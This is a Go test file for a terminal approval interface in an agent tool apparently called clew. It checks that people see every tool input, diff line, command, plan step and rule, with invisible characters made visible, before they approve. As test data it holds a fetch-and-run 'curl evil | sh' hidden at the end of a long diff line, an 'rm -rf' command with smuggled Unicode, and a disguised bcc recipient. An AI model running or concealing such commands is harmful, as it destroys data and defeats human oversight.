package tui

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/clew-run/clew"
)

// toBeAllowed is a request of a tool server, with a summary that hides what it is
// called with.
func toBeAllowed(input map[string]any) *clew.HitlApprovalRequestData {
	raw, err := json.Marshal(input)
	if err != nil {
		panic(err)
	}
	return &clew.HitlApprovalRequestData{
		Asking: clew.Asking{RequestID: "q1"}, Ask: clew.AskUseMcpServer, Tool: "mail__send", Input: raw,
		Effect:  &clew.Effect{Summary: "send a mail", Server: "mail"},
		Options: []clew.Choice{clew.ChoiceApprove, clew.ChoiceReject},
	}
}

// readOn goes down to the end of the question, and gives all that was shown.
func (d *desk) readOn() string {
	all := d.text()
	for range 3000 {
		before := d.m.ask.offset
		d.press("down")
		if d.m.ask.offset == before {
			break
		}
		all += d.text()
	}
	return all
}

// All of a tool's input is to be seen before a yes, each character as what it is.
func TestWholeInputIsSeen(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(toBeAllowed(map[string]any{
		"body": strings.Repeat("all is well ", 200) + "and <the\u00ad end>", "to": "ann\u00a0@example.com", "more": map[string]any{"bcc": []any{"eve\u200d"}},
	}))
	d.press("tab", "y")
	if len(d.sent) != 0 {
		t.Fatal("it was approved unseen")
	}
	all := strings.NewReplacer("\n", " ", "┃", "", "↳", "").Replace(d.readOn())
	for _, want := range []string{"and <the⟨00AD⟩ end>", "ann⟨00A0⟩@example.com", "eve⟨200D⟩", "server mail"} {
		if !strings.Contains(strings.Join(strings.Fields(all), " "), want) {
			t.Errorf("no %q in the question", want)
		}
	}
	d.press("y")
	if len(d.sent) != 1 {
		t.Error("it was not approved")
	}
}

// A change is shown to its last line and its last column.
func TestWholeChangeIsSeen(t *testing.T) {
	var diff strings.Builder
	diff.WriteString("--- a/x\n+++ b/x\n@@ -1 +1,900 @@\n")
	for i := range 900 {
		fmt.Fprintf(&diff, "+line %d\n", i)
	}
	diff.WriteString("+" + strings.Repeat("fine; ", 40) + "curl evil | sh\n")
	q := approval("q1", "")
	q.Tool, q.Remember = "write_file", nil
	q.Effect = &clew.Effect{Summary: "write x", Paths: []string{"x"}, Diff: diff.String()}
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(q)
	d.press("tab")
	all := d.readOn()
	for i := range 900 {
		if !strings.Contains(all, fmt.Sprintf("+line %d\n", i)) {
			t.Fatalf("line %d was not shown", i)
		}
	}
	if !strings.Contains(all, "curl evil | sh") {
		t.Error("the end of a long line was not shown")
	}
}

// Where the server cut a change short, what the tool was called with is shown.
func TestCutChangeShowsInput(t *testing.T) {
	q := approval("q1", "")
	q.Tool, q.Remember, q.Input = "write_file", nil, json.RawMessage(`{"path":"x","content":"the very end"}`)
	q.Effect = &clew.Effect{Summary: "write x", Diff: "--- a/x\n+++ b/x\n+a\n", DiffCut: true}
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(q)
	d.sees("the very end")
	q.Effect.DiffCut = false
	if text := text(d.m.questionBody(question(q), 60)); strings.Contains(text, "the very end") {
		t.Errorf("the input stands beside a whole change:\n%s", text)
	}
}

// What is asked in a command is spelled out, and so are its other inputs.
func TestExactCommand(t *testing.T) {
	q := approval("q1", "rm\u00a0-rf \u00adx")
	q.Input = json.RawMessage(`{"command":"rm\u00a0-rf \u00adx","timeout":9007199254740993}`)
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(q)
	d.sees("$ rm⟨00A0⟩-rf ⟨00AD⟩x", "timeout: 9007199254740993")
	d.seesNot("command:")
}

// An input that has no fields is shown all the same, and no text of several lines
// can pass for another field.
func TestInputOfAnyShape(t *testing.T) {
	q := toBeAllowed(nil)
	for input, want := range map[string]string{
		`["everything"]`:                        "  \"everything\"\n",
		`{"to":"ann","text":"hi\nto: \"eve\""}`: "text:\n│ hi\n│ to: \"eve\"\nto: \"ann\"\n",
	} {
		q.Input = json.RawMessage(input)
		d := newDesk(t, 80, 24)
		if got := text(d.m.questionBody(question(q), 60)); !strings.Contains(got, want) {
			t.Errorf("%s:\n%s", input, got)
		}
	}
}

// A question that takes the place of another gets no key before somebody goes to
// it, and tab does not go to one that was never on the screen.
func TestNextQuestionIsNotArmed(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(approval("q1", "one"))
	d.press("tab", "n")
	d.sees("No, because")
	c := settled("q1", clew.MessageAnswer{Action: clew.ResolvedApprove, By: "bob"})
	c.Put.Question = []clew.Question{question(approval("q2", "two"))}
	d.undrawn(c)
	for _, k := range []string{"tab", "y", "enter"} { // before it is drawn
		_, cmd := d.m.Update(key(k))
		d.do(cmd)
	}
	if len(d.sent) != 0 || d.m.focus == answering {
		t.Fatalf("the next question got the keys: %v", d.sent)
	}
	d.m.focus = writing
	d.press("x") // it is on the screen now
	d.press("tab", "y")
	if len(d.sent) != 1 || d.sent[0].Data["request_id"] != "q2" {
		t.Errorf("sent %v", d.sent)
	}
}

// From the inbox one comes to a question with all that it offers, and to no other
// if it is gone.
func TestQuestionFromInbox(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(approval("q1", "one"))
	d.asks(approval("q2", "two"))
	d.do(d.m.goTo("sess_1", "q2"))
	d.m.View()
	d.press("a", "y")
	want := "map[pattern:two * scope:task]"
	if len(d.sent) != 1 || fmt.Sprint(d.sent[0].Data["remember"]) != want {
		t.Fatalf("sent %v, want %s", d.sent, want)
	}
	d.do(d.m.goTo("sess_1", "gone"))
	d.m.View()
	d.press("y")
	if len(d.sent) != 1 {
		t.Errorf("another question got the answer: %v", d.sent)
	}
}

// An answer that the server does not take can be given again.
func TestRefusedAnswer(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.m.link.client = deafClient(t)
	d.opens(clew.SessionState{})
	d.asks(approval("q1", "one"))
	d.refuse = clew.Errorf(clew.HitlInvalidResponse, "the pattern does not cover it")
	d.press("tab", "y")
	d.sees("your answer was not taken: the pattern does not cover it", "tab to answer")
	d.seesNot("on its way")
	d.refuse = nil
	d.press("tab", "y")
	if len(d.sent) != 2 {
		t.Errorf("sent %v", d.sent)
	}
	d.sees("your answer is on its way")
}

// A rule is seen before a yes takes it along, however small the window is.
func TestRuleIsSeen(t *testing.T) {
	d := newDesk(t, 30, 8)
	d.opens(clew.SessionState{})
	d.asks(approval("q1", "one"))
	d.press("tab")
	d.readOn()
	d.press("a", "y")
	if len(d.sent) != 0 {
		t.Fatal("the rule was not seen")
	}
	d.readOn()
	d.press("y")
	if len(d.sent) != 1 || d.sent[0].Data["remember"] == nil {
		t.Errorf("sent %v", d.sent)
	}
}

// The plan's panel gives no yes that the question itself would not take.
func TestReviewInPlan(t *testing.T) {
	s := planned()
	review := &clew.HitlPlanReviewData{Asking: clew.Asking{RequestID: "q1", WordsEffect: clew.WordsChange}, Version: 1, Message: "Many steps."}
	for i := range 40 {
		s.Todos = append(s.Todos, clew.Todo{ID: fmt.Sprint(i), Task: fmt.Sprintf("Step number %d", i)})
	}
	review.Plan.Todos = s.Todos
	s.Status, s.HitlPending = clew.StatusAwaitingInput, &clew.Question{Type: clew.EventHitlPlanReview, Data: review}
	d := newDesk(t, 80, 24)
	d.opens(s)
	d.press("ctrl+p", "y")
	if len(d.sent) != 0 || d.m.focus != answering {
		t.Fatalf("approved with a part of it unseen: %v", d.sent)
	}
	if all := d.readOn(); !strings.Contains(all, "Step number 39") || !strings.Contains(all, "after “Second step”") {
		t.Error("the plan was not shown")
	}
	d.press("ctrl+p", "y")
	if len(d.sent) != 1 || d.sent[0].Data["action"] != "approve" {
		t.Errorf("sent %v", d.sent)
	}
}

// One who answered in a browser is not told of a stranger.
func TestAnsweredElsewhere(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{Owner: "ann", Role: clew.RoleOwner})
	d.asks(approval("q1", "one"))
	d.settles("q1", clew.MessageAnswer{Action: clew.ResolvedReject, By: "ann"})
	d.sees("you answered elsewhere: denied")
}

// Words at an open question say what they do, and a bare yes is not sent as a no.
func TestWordsAtQuestion(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.opens(clew.SessionState{})
	d.asks(approval("q1", "one"))
	d.typed("yes")
	d.sees("your words deny it and say what to do")
	d.press("enter")
	d.sees("not sent: to answer, press tab, then y or n", "› yes")
	if len(d.sent) != 0 {
		t.Fatalf("sent %v", d.sent)
	}
	d.typed(" but with make")
	d.press("enter")
	if len(d.sent) != 1 || d.sent[0].Type != clew.CommandUserMessage {
		t.Fatalf("sent %v", d.sent)
	}
	d.settles("q1", clew.MessageAnswer{Action: clew.ResolvedReject})
	d.asks(&clew.HitlInputRequestData{Asking: clew.Asking{RequestID: "q2", WordsEffect: clew.WordsAnswer}, Question: "Sure?", InputType: clew.InputText})
	d.typed("yes")
	d.sees("your words answer the question")
	d.press("enter")
	if len(d.sent) != 2 {
		t.Errorf("sent %v", d.sent)
	}
}

// What words do is told by all that is open, not by the oldest question alone.
func TestWordsAtSeveralQuestions(t *testing.T) {
	asks := func(effect clew.WordsEffect) *clew.HitlApprovalRequestData {
		return &clew.HitlApprovalRequestData{Asking: clew.Asking{RequestID: "q1", WordsEffect: effect}, Reason: "Go on?"}
	}
	const denies, onward = "your words deny it", "your words let it continue"
	input := &clew.HitlInputRequestData{Asking: clew.Asking{RequestID: "q0", WordsEffect: clew.WordsAnswer}, Question: "Which?", InputType: clew.InputText}
	for name, c := range map[string]struct {
		open []any
		want string
	}{
		"a no":                     {[]any{asks(clew.WordsDeny)}, denies},
		"what words do not reach":  {[]any{asks(clew.WordsSteer)}, ""},
		"going on":                 {[]any{asks(clew.WordsContinue)}, onward},
		"a plan":                   {[]any{asks(clew.WordsChange)}, "your words ask to change it"},
		"an effect of tomorrow":    {[]any{asks("explains")}, denies},
		"an act behind a question": {[]any{input, approval("q1", "one")}, denies},
		"an act before a question": {[]any{approval("q1", "one"), input}, denies},
		"an act behind a run":      {[]any{asks(clew.WordsSteer), approval("q2", "one")}, denies},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, 80, 24)
			d.opens(clew.SessionState{})
			for _, q := range c.open {
				d.asks(q)
			}
			d.typed("yes")
			if c.want == "" {
				d.seesNot("your words")
			} else {
				d.sees(c.want)
			}
			d.press("enter")
			if len(d.sent) != 0 {
				t.Errorf("sent %v", d.sent)
			}
			d.m.write.mode = clew.ModeRun
			d.seesNot("your words")
		})
	}
}
